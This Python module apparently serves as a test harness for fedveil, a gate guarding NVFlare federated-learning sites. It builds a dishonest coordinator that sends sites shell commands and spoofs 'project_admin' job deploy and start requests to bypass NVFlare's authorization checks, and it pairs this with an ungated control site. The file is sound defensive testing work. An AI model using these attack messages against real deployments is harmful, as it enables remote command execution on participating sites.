"""Components of a dishonest coordinator, and of a site without its gate, to see what the gate is for."""

from __future__ import annotations

import json
import os
import sys
import threading
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.executor import Executor
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
from nvflare.fuel.f3.message import Message
from nvflare.private.admin_defs import Message as Command
from nvflare.private.defs import RequestHeader, SysCommandTopic, TrainingTopic

from fedveil.runtimes.nvflare_couriers import CoordinatorCourier, SiteCourier
from fedveil.runtimes.nvflare_gate import CHANNEL, TOPIC


class CommandingCourier(CoordinatorCourier):
    """A question that is the JSON of an attack is carried out, and what came back is the answer."""

    def _deliver(self, ask: int, site: str, question: bytes, *others: Any) -> None:
        attack = json.loads(question)
        if not self._await(site, 60):
            raise RuntimeError(f"{site} did not come")
        if attack["kind"] == "large":
            reply = self._cell.send_request(
                channel=CHANNEL, topic=TOPIC, target=site, request=Message({}, bytes(attack["size"])), timeout=10.0
            )
            return self._report(ask, site, reply)
        channel, topic, payload = getattr(self, f"_{attack['kind']}")(attack)
        reply = self._cell.core_cell.send_request(
            channel=channel, topic=topic, target=site, request=Message({}, payload), timeout=20.0
        )
        return self._report(ask, site, reply)

    def _report(self, ask: int, site: str, reply: Message) -> None:
        said = reply.payload.body if isinstance(reply.payload, Command) else repr(reply.payload)
        answer = {
            "code": reply.get_header(MessageHeaderKey.RETURN_CODE),
            "error": reply.get_header(MessageHeaderKey.ERROR, ""),
            "said": said,
        }
        self._tell("answer", json.dumps(answer).encode(), ask=ask, site=site)

    def _shell(self, attack: dict[str, Any]) -> tuple[str, str, Any]:
        """NVFlare's client checks a right only if the sender says that one is needed. This one does not."""
        return CellChannel.CLIENT_MAIN, SysCommandTopic.SHELL, Command(SysCommandTopic.SHELL, attack["command"])

    def _deploy(self, attack: dict[str, Any]) -> tuple[str, str, Any]:
        command = Command(TrainingTopic.DEPLOY, bytes.fromhex(attack["app"]))
        command.set_header(RequestHeader.JOB_ID, "job")
        command.set_header(RequestHeader.APP_NAME, "app")
        command.set_header(RequestHeader.JOB_META, {"submitter_role": "project_admin", **attack.get("meta", {})})
        return CellChannel.CLIENT_MAIN, TrainingTopic.DEPLOY, command

    def _begin(self, attack: dict[str, Any]) -> tuple[str, str, Any]:
        """A job that was deployed before."""
        command = Command(TrainingTopic.START_JOB, {})
        command.set_header(RequestHeader.JOB_ID, "job")
        command.set_header(RequestHeader.JOB_META, {"submitter_role": "project_admin", **attack.get("meta", {})})
        command.set_header("__resource_reserve_token__", "token")
        return CellChannel.CLIENT_MAIN, TrainingTopic.START_JOB, command

    def _stop(self, attack: dict[str, Any]) -> tuple[str, str, Any]:
        return "cellnet.net_agent", "stop", None

    def _decoded(self, attack: dict[str, Any]) -> tuple[str, str, Any]:
        """A question that NVFlare would decode before anybody looks at it."""
        return CHANNEL, TOPIC, {"not": "bytes"}


class MarkingExecutor(Executor):  # type: ignore[misc]
    """Leaves a mark where it is made: the name of the site whose job made it."""

    def __init__(self) -> None:
        super().__init__()
        with Path(os.environ["EVIL_MARK"]).open("a") as file:
            file.write(f"{sys.argv} {os.getcwd()}\n")

    def execute(self, *arguments: Any) -> Shareable:
        return Shareable()


class UngatedCourier(SiteCourier):
    """A control: NVFlare's client with a kit of fedveil, but without the gate."""

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_BOOTSTRAP:
            threading.Thread(target=self._follow, daemon=True).start()
        else:
            super().handle_event(event_type, fl_ctx)
